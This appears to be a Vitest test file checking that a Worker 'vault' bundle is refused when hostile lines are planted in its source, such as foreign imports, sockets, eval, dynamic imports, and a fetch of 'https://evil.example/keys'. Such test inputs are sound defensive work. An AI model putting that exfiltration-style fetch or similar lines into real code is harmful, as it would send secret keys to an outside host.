import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { bundleVault } from '../../scripts/provision/deployment.ts'
import { createBundler } from '../../scripts/stack/bundle.ts'

const copies: string[] = []
afterAll(() => {
  for (const copy of copies) rmSync(copy, { recursive: true, force: true })
})

/** A checkout whose vault has this line more; inside the project, where its packages are found. */
const planted = (line: string): string => {
  mkdirSync('.lango', { recursive: true })
  const copy = path.resolve(mkdtempSync(path.join('.lango', 'planted-')))
  copies.push(copy)
  cpSync('src', path.join(copy, 'src'), { recursive: true })
  const worker = path.join(copy, 'src/vault/worker.ts')
  writeFileSync(worker, `${line}\n${readFileSync(worker, 'utf8')}`)
  return copy
}

const hostile = path.resolve('test/workers/hostile/dependency.ts')

describe("the vault's bundle", () => {
  it('is made of our own source alone, and is what is sealed', async () => {
    const modules = await bundleVault()
    expect(modules.map(({ path: name }) => name)).toEqual(expect.arrayContaining(['index.js', 'vault.wasm']))
    // The copy that the others are planted in would pass as well.
    expect(await bundleVault(planted('// nothing'))).toHaveLength(modules.length)
  })

  it.each([
    ['the hostile module of the edge', `import ${JSON.stringify(hostile)}`, /made of .*hostile\/dependency\.ts/],
    ['an npm package', "import 'hono'", /made of .*node_modules\/hono/],
    ['a file of another Worker', "import '../edge/log.ts'", /made of src\/edge\/log\.ts/],
    ['an adapter', "import '../adapters/sha256.ts'", /made of src\/adapters\/sha256\.ts/],
    ["Node's own modules", "import 'node:fs'", /imports node:fs/],
    ['sockets', "import 'cloudflare:sockets'", /imports cloudflare:sockets/],
    ['eval', "export const it = eval('1')", /makes code of text: eval\(/],
    ['a function made of text', "export const it = new Function('return 1')", /makes code of text: new Function/],
    [
      'a module that is loaded later',
      "export const it = () => import('cloudflare:workers')",
      /makes code of text: import\(/,
    ],
    [
      'an address',
      "export const it = () => fetch('https://evil.example/keys')",
      /knows the address https:\/\/evil\.example/,
    ],
  ])('cannot be sealed with %s in it', async (_, line, names) => {
    await expect(bundleVault(planted(line))).rejects.toThrow(names)
  })

  it('begins with the module that takes what it needs of the platform', async () => {
    const bundler = await createBundler('src/vault/worker.ts', () => {})
    await bundler.dispose()
    const [code] = bundler.modules()
    // The platform's own imports are hoisted; this is where code begins.
    const [, first] = /^\/\/ (src\/\S+)\n(?!import )/m.exec(String(code?.contents)) ?? []
    expect(first).toBe('src/core/intrinsics.ts')
  })
})

it('the bytes that the core hashes are those that run', () => {
  const generated = path.resolve('src/core/generated')
  expect(readFileSync(path.join(generated, 'vault.bin')).equals(readFileSync(path.join(generated, 'vault.wasm')))).toBe(
    true,
  )
})
